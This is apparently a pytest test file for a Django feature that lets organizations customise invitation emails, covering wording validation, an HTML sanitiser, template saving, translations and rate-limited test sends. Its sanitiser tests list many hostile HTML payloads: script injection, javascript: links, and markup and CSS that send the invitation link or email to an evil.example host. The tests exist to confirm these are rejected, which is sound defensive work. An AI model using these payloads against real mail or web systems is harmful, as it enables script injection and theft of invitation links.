"""What an organization may write into its invitations, and what becomes of it."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.core.cache import cache
from django.core.mail import EmailMessage
from django.utils import timezone

from jigxmgmt.errors import NotAllowed
from orgs.mail.html import faults_in_html
from orgs.mail.wording import Wording
from orgs.models import AuditEvent, Membership, Organization, User
from orgs.services.invite_templates import (
    TESTS_AN_HOUR,
    NoSuchLanguage,
    NoSuchTemplate,
    TooManyTests,
    find_invite_template,
    missing_translations,
    parts_lacking,
    preview_invitation,
    remove_invite_template,
    save_invite_template,
    send_test_invitation,
)
from orgs.services.invite_wording import MOST_BYTES, WordingInvalid, checked_wording
from orgs.tests.factories import InviteFactory, MembershipFactory

pytestmark = pytest.mark.django_db

NOW = timezone.now()


@pytest.fixture(autouse=True)
def _nothing_was_counted() -> Iterator[None]:
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def ada() -> User:
    return MembershipFactory.create(owner=True, organization__name="Acme").user


@pytest.fixture
def acme(ada: User) -> Organization:
    return Organization.objects.get()


def faults_of(**parts: Any) -> dict[str, str]:
    with pytest.raises(WordingInvalid) as refusal:
        checked_wording(Wording(**parts))
    return {fault.pointer: fault.detail for fault in refusal.value.faults}


class TestCheckedWording:
    def test_leaves_out_what_is_blank(self) -> None:
        wording = checked_wording(
            Wording(subject=" Hi ", parameters={"heading": " ", "accent": "#AABBCC"}, html=" \n")
        )

        assert wording == Wording(subject="Hi", parameters={"accent": "#AABBCC"})

    @pytest.mark.parametrize(
        ("name", "text", "words"),
        [
            ("accent", "red", "#rrggbb"),
            ("accent", "#4338ca;}", "#rrggbb"),
            ("icon", "../secret", "Choose one of"),
            ("heading", "x" * 201, "at most 200"),
            ("heading", "two\nlines", "one line"),
            ("body", "{{password}}", "no placeholder {{password}}"),
            ("body", "null \0", "null"),
            ("app_store", "http://apps.apple.com/x", "https://"),
            ("google_play", "javascript:alert(1)", "https://"),
            ("colour", "#ffffff", "no parameter"),
        ],
    )
    def test_names_the_parameter_at_fault(self, name: str, text: str, words: str) -> None:
        assert words in faults_of(parameters={name: text})[f"/parameters/{name}"]

    def test_wants_the_link_in_bodies_of_ones_own(self) -> None:
        faults = faults_of(html="<p>Hello</p>", text="Hello", subject="{{nobody}}")

        assert "{{link}}" in faults["/html"]
        assert "{{link}}" in faults["/text"]
        assert "{{nobody}}" in faults["/subject"]

    def test_keeps_the_link_out_of_other_addresses(self) -> None:
        glued = "https://evil.example/?{{ link }}"

        faults = faults_of(
            subject="Come: {{link}}", text=glued, parameters={"heading": glued, "body": glued}
        )

        assert faults.keys() == {"/subject", "/text", "/parameters/heading", "/parameters/body"}

    def test_takes_the_link_in_texts(self) -> None:
        parameters = {"body": "{{link}}", "note": "Or:\n{{link}}"}

        assert checked_wording(Wording(parameters=parameters)).parameters == parameters

    def test_bounds_the_bodies(self) -> None:
        assert "100 KB" in faults_of(text="{{link}}" + "x" * MOST_BYTES)["/text"]


class TestFaultsInHtml:
    @pytest.mark.parametrize(
        "html",
        [
            "<script>alert(1)</script>",
            "<SCRIPT src=//evil.example></SCRIPT>",
            '<img src="https://x.example/a.png" onerror="alert(1)">',
            '<a href="javascript:alert(1)">x</a>',
            '<a href=" java&#10;script:alert(1)">x</a>',
            '<a href="data:text/html,x">x</a>',
            '<form action="https://x.example"></form>',
            '<iframe src="https://x.example"></iframe>',
            '<object data="https://x.example"></object>',
            '<base href="https://x.example">',
            '<meta http-equiv="refresh" content="0">',
            '<a href="{{first_name}}">x</a>',
            '<a href="java{{first_name}}">x</a>',
            "<{{first_name}}>",
            "<p {{first_name}}>x</p>",
            '<p style="color:{{first_name}}">x</p>',
            "<style>p { color: {{first_name}} }</style>",
            "<p>never closed <!-- x",
        ],
    )
    def test_refuses_what_could_do_something(self, html: str) -> None:
        assert faults_in_html(html)

    @pytest.mark.parametrize(
        "html",
        [
            '<img src="https://evil.example/p.gif?l={{link}}">',
            '<img src="{{link}}"><img srcset="{{logo}}"><area href="{{link}}">',
            '<a href="https://evil.example/?l={{link}}">x</a>',
            '<a href="https://evil.example/?e={{email}}">x</a>',
            '<a href="{{link}}" ping="https://evil.example/">x</a>',
            '<p title="{{link}}">x</p>',
            '<p data-name="{{first_name}}">x</p>',
            "<p style=\"background:url('https://evil.example/{{link}}')\">x</p>",
            "<style>p { background: url(https://evil.example/{{link}}) }</style>",
            "<style>{{link}}</style><p>&#123;&#123;link}}</p>",
            '<!-- <img src="https://evil.example/{{email}}"> -->',
            '<!--[if mso]><a href="{{link}}"></a><![endif]-->',
            '<img src="https://evil.example/? {{link}}"" >',
            "https://evil.example/?{{link}}",
            "https://evil.example/?<b>{{link}}</b>",
            "https://evil.example/?<!-- -->{{link}}",
            "https://evil.example/?{{first_name}}{{link}}",
            '<svg><title><img src="https://evil.example/? {{link}}"></title></svg>',
            "<style>@import 'https://evil.example/all.css';</style>",
            "<style>[hre\\66 *=x] { background: url(https://evil.example/x) }</style>",
        ],
    )
    def test_refuses_what_could_tell_others_of_the_link(self, html: str) -> None:
        assert faults_in_html(html)

    @pytest.mark.parametrize(
        "html",
        [
            '<a href="{{link}}" title="For {{first_name}}">Hello {{first_name}}, 1 < 2</a> bye',
            '<a href=" {{ app_store }} ">x</a><title>{{organization}}</title>',
            "<p>Or by hand:<br>{{link}}</p><td>{{first_name}}</td><td>{{link}}</td>",
            '<img src="https://acme.example/banner.png" alt="{{organization}}">',
            '<img src="data:image/png;base64,AAAA" alt=""><img src="{{logo}}" alt="">',
            "<style>@media print { p { color: red } }</style><p style='color:red'>x</p>",
            '<!--[if mso]><p>Outlook</p><![endif]--><meta http-equiv="Content-Type">',
        ],
    )
    def test_lets_a_mail_be_a_mail(self, html: str) -> None:
        assert faults_in_html(html) == []

    def test_reads_an_unfinished_end_once(self) -> None:
        # Each of its characters once more would take minutes.
        assert faults_in_html("<a " * 30_000)


class TestSaveInviteTemplate:
    def save(self, acme: Organization, ada: User, language: str = "de", **parts: Any) -> Any:
        wording = Wording(**parts)
        return save_invite_template(acme, language=language, wording=wording, by=ada, now=NOW)

    def test_writes_it_whole(self, acme: Organization, ada: User) -> None:
        self.save(acme, ada, subject="Eins", parameters={"heading": "Hallo"})

        again = self.save(acme, ada, subject="Zwei")

        template = find_invite_template(acme, language="de", by=ada)
        assert template == again
        assert (template.subject, template.parameters) == ("Zwei", {})
        assert template.changed_by == ada

    def test_records_short_parts_and_how_long_the_others_are(
        self, acme: Organization, ada: User
    ) -> None:
        self.save(acme, ada, subject="Hi", parameters={"body": "Words"}, text="Secret {{link}}")
        self.save(acme, ada, subject="Hi", parameters={"body": "Words"}, text="Secret {{link}}")

        event = AuditEvent.objects.get(act__startswith="invite_template")
        assert event.act == "invite_template.create"
        assert event.changes == {"subject": ["", "Hi"], "body": [0, 5], "text": [0, 15]}

    def test_is_not_for_creators(self, acme: Organization) -> None:
        creator = MembershipFactory.create(organization=acme, creator=True).user

        with pytest.raises(NotAllowed):
            self.save(acme, creator, subject="Hi")

    def test_knows_the_languages(self, acme: Organization, ada: User) -> None:
        with pytest.raises(NoSuchLanguage):
            self.save(acme, ada, "xx")

    def test_is_removed_once(self, acme: Organization, ada: User) -> None:
        self.save(acme, ada, subject="Hi")
        mine, theirs = (find_invite_template(acme, language="de", by=ada) for _ in "ab")
        remove_invite_template(mine, by=ada)

        with pytest.raises(NoSuchTemplate):
            remove_invite_template(theirs, by=ada)
        assert AuditEvent.objects.filter(act="invite_template.remove", actor=ada).count() == 1


class TestMissingTranslations:
    def test_are_languages_in_use_that_nobody_wrote(self, acme: Organization, ada: User) -> None:
        InviteFactory.create(organization=acme, language="de")
        InviteFactory.create(organization=acme, language="de", state="REVOKED")
        MembershipFactory.create(organization=acme, user__language="fr-ch")
        MembershipFactory.create(organization=acme, user__language="es", is_active=False)

        found = missing_translations(acme, by=ada)

        counted = [(each.name, each.open_invites, each.people) for each in found]
        assert counted == [("French", 0, 1), ("German", 1, 0)]

    def test_are_not_for_creators(self, acme: Organization) -> None:
        creator = MembershipFactory.create(organization=acme, creator=True).user

        with pytest.raises(NotAllowed):
            missing_translations(acme, by=creator)

    def test_count_english_once_something_else_is_written(
        self, acme: Organization, ada: User
    ) -> None:
        assert missing_translations(acme, by=ada) == []

        save_invite_template(acme, language="de", wording=Wording(), by=ada, now=NOW)

        assert [each.language for each in missing_translations(acme, by=ada)] == ["en"]

    def test_name_the_parts_that_the_default_has_and_another_lacks(
        self, acme: Organization, ada: User
    ) -> None:
        english = Wording(subject="Hi", parameters={"heading": "Come"}, text="{{link}}")
        german = Wording(subject="Hallo", parameters={"footer": "Ende"})
        save_invite_template(acme, language="en", wording=english, by=ada, now=NOW)
        save_invite_template(acme, language="de", wording=german, by=ada, now=NOW)

        lacking = parts_lacking(acme.invite_templates.all())

        assert lacking == {"en": [], "de": ["heading", "text"]}


class TestSendTestInvitation:
    def send(self, acme: Organization, by: User) -> None:
        wording = Wording(subject="Hallo {{first_name}}")
        send_test_invitation(acme, language="de", wording=wording, by=by, now=NOW)

    def test_goes_to_oneself_with_a_link_that_opens_nothing(
        self, acme: Organization, ada: User, mailoutbox: list[EmailMessage]
    ) -> None:
        self.send(acme, ada)

        (mail,) = mailoutbox
        assert (mail.to, mail.subject) == ([ada.email], "Hallo Mia")
        assert "/invitations/sample" in mail.body
        assert not acme.invites.exists()

    def test_is_bounded_by_the_hour(self, acme: Organization, ada: User) -> None:
        for _ in range(TESTS_AN_HOUR):
            self.send(acme, ada)

        with pytest.raises(TooManyTests):
            self.send(acme, ada)

    def test_is_not_for_creators(self, acme: Organization) -> None:
        creator: Membership = MembershipFactory.create(organization=acme, creator=True)

        with pytest.raises(NotAllowed):
            self.send(acme, creator.user)


class TestPreviewInvitation:
    def test_is_not_for_creators(self, acme: Organization) -> None:
        creator = MembershipFactory.create(organization=acme, creator=True).user

        with pytest.raises(NotAllowed):
            preview_invitation(acme, language="de", wording=Wording(), by=creator, now=NOW)
